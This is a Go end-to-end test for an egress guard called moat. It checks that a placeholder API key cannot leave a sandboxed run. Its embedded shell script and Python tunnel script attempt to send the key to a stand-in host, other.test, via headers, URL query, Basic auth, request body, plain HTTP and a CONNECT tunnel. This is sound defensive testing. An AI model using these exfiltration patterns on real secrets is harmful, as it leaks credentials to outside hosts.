//go:build e2e

package e2e

import (
	"bytes"
	"crypto/tls"
	"encoding/base64"
	"io"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/moatsh/moat/internal/grant"
	"github.com/moatsh/moat/internal/testutil/fakeapi"
)

// recorder keeps every byte servers on the host were sent, to prove what
// never reached them.
type recorder struct {
	mu  sync.Mutex
	got bytes.Buffer
}

func (r *recorder) add(b []byte) {
	r.mu.Lock()
	r.got.Write(b)
	r.got.WriteByte('\n')
	r.mu.Unlock()
}

func (r *recorder) bytes() []byte {
	r.mu.Lock()
	defer r.mu.Unlock()
	return bytes.Clone(r.got.Bytes())
}

// handler records each request whole (request line, headers, body) and
// answers 200 "reached".
func (r *recorder) handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		dump, _ := httputil.DumpRequest(req, true)
		r.add(dump)
		io.WriteString(w, "reached")
	})
}

// serveTLS serves h for name on addr ("ip:port", port 0 for any) and
// returns the port and the CA that signs its certificate.
func serveTLS(t *testing.T, addr, name string, h http.Handler) (port, caPEM string) {
	t.Helper()
	cert, ca := serverCert(t, name)
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: h, TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}}}
	go srv.ServeTLS(ln, "", "")
	t.Cleanup(func() { srv.Close() })
	_, port, _ = net.SplitHostPort(ln.Addr().String())
	return port, ca
}

// TestEgressGuardRefusesPlaceholders: a run with the anthropic grant
// sends its placeholder everywhere it could leave: to the grant's host
// in the header moat replaces (the control: it works, with the real key),
// and to an allowed host without a grant in a header, the URL, Basic
// credentials and plain HTTP, to the grant's host in the body, and as
// plain text through a CONNECT tunnel to a server that speaks first.
// Every one is refused with 403 and X-Moat-Blocked naming the
// placeholder, the trace records the refusals, and no server on the host
// ever receives the placeholder in any form.
func TestEgressGuardRefusesPlaceholders(t *testing.T) {
	t.Parallel()
	needImage(t, "curl", "git", "python")
	e := newMoat(t)
	e.storeGrant("anthropic", fakeapi.AnthropicKey)
	rec := &recorder{}

	apiAddr, otherAddr := nextLoopback(), nextLoopback()
	_, apiCA := serveTLS(t, apiAddr+":443", "api.anthropic.com", rec.handler())
	tlsPort, otherCA := serveTLS(t, otherAddr+":0", "other.test", rec.handler())
	plain, err := net.Listen("tcp", otherAddr+":0")
	if err != nil {
		t.Fatal(err)
	}
	plainSrv := &http.Server{Handler: rec.handler()}
	go plainSrv.Serve(plain)
	t.Cleanup(func() { plainSrv.Close() })
	_, plainPort, _ := net.SplitHostPort(plain.Addr().String())
	raw, err := net.Listen("tcp", otherAddr+":0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { raw.Close() })
	go func() {
		for {
			c, err := raw.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				io.WriteString(c, "HELLO\r\n") // speaks first, as SSH does
				b, _ := io.ReadAll(c)
				rec.add(b)
			}()
		}
	}()
	_, rawPort, _ := net.SplitHostPort(raw.Addr().String())

	ws := e.hostileEgressWorkspace(
		"  hosts: {api.anthropic.com: "+apiAddr+", other.test: "+otherAddr+"}\n  ca: ca.pem\ngrants: [anthropic]\n",
		map[string]string{"ca.pem": apiCA + otherCA, "tunnel.py": tunnelScript})
	other := "https://other.test:" + tlsPort
	script := `k=$ANTHROPIC_API_KEY
try() { name=$1; shift; printf '%s %s\n' "$name" "$(curl -sS -o /dev/null -w '%{http_code} %header{x-moat-blocked}' "$@")"; }
try control-injected -H "x-api-key: $k" https://api.anthropic.com/v1/ok
try control-clean ` + other + `/clean
try other-host-header -H "x-api-key: $k" ` + other + `/
try other-host-query "` + other + `/?key=$k"
try other-host-basic -u "user:$k" ` + other + `/
try grant-host-body -H "x-api-key: $k" --data "{\"key\":\"$k\"}" https://api.anthropic.com/v1/x
try plain-http -H "X-Key: $k" http://other.test:` + plainPort + `/
echo "tunnel $(python3 /workspace/tunnel.py other.test:` + rawPort + ` "$k")"
`
	name := uniqueName(t)
	res := e.mustRun(0, "run", "-n", name, ws, "--", "sh", "-c", script)
	got := map[string]string{}
	for _, line := range strings.Split(strings.TrimSpace(res.stdout), "\n") {
		k, v, _ := strings.Cut(line, " ")
		got[k] = v
	}
	for _, c := range []string{"control-injected", "control-clean"} {
		if !strings.HasPrefix(got[c], "200") {
			t.Errorf("%s: got %q, want 200\n%s", c, got[c], res)
		}
	}
	for _, c := range []string{"other-host-header", "other-host-query", "other-host-basic", "grant-host-body", "plain-http"} {
		if !strings.HasPrefix(got[c], "403 ") || !strings.Contains(got[c], "placeholder of ANTHROPIC_API_KEY") {
			t.Errorf("%s: got %q, want 403 with X-Moat-Blocked naming the placeholder\n%s", c, got[c], res)
		}
	}
	if !strings.HasPrefix(got["tunnel"], "banner=HELLO") || !strings.Contains(got["tunnel"], "closed") {
		t.Errorf("tunnel: got %q, want the server's banner, then the tunnel closed", got["tunnel"])
	}

	seen := rec.bytes()
	placeholder := grant.Grant{Kind: "anthropic"}.Placeholder()["ANTHROPIC_API_KEY"]
	for _, form := range []string{placeholder, url.QueryEscape(placeholder), base64.StdEncoding.EncodeToString([]byte("user:" + placeholder))[8:60]} {
		if bytes.Contains(seen, []byte(form)) {
			t.Errorf("a server on the host received the placeholder (%.20s...):\n%s", form, seen)
		}
	}
	if n := bytes.Count(seen, []byte(fakeapi.AnthropicKey)); n != 1 {
		t.Errorf("the real key reached the servers %d times, want once (the control)", n)
	}
	trace := e.mustRun(0, "trace", name, "--json").stdout
	if n := strings.Count(trace, "placeholder of ANTHROPIC_API_KEY"); n < 6 {
		t.Errorf("the trace records %d refusals naming the placeholder, want 6:\n%s", n, trace)
	}
}

// tunnelScript CONNECTs through the run's proxy to argv[1], reads the
// server's first line, then sends argv[2] in plain text and reports
// whether the proxy closed the tunnel.
const tunnelScript = `import base64, os, socket, sys, urllib.parse
u = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
s = socket.create_connection((u.hostname, u.port), timeout=10)
auth = base64.b64encode((u.username + ":" + u.password).encode()).decode()
s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\nProxy-Authorization: Basic %s\r\n\r\n" % (sys.argv[1], sys.argv[1], auth)).encode())
f = s.makefile("rb")
status = f.readline()
while f.readline() not in (b"\r\n", b""):
    pass
banner = f.readline().decode().strip()
try:
    s.sendall(b"login " + sys.argv[2].encode() + b"\n")
    rest = f.read()
    print("banner=%s %s rest=%r" % (banner, "closed" if rest == b"" else "open", rest[:40]))
except OSError as e:
    print("banner=%s closed (%s)" % (banner, e))
`
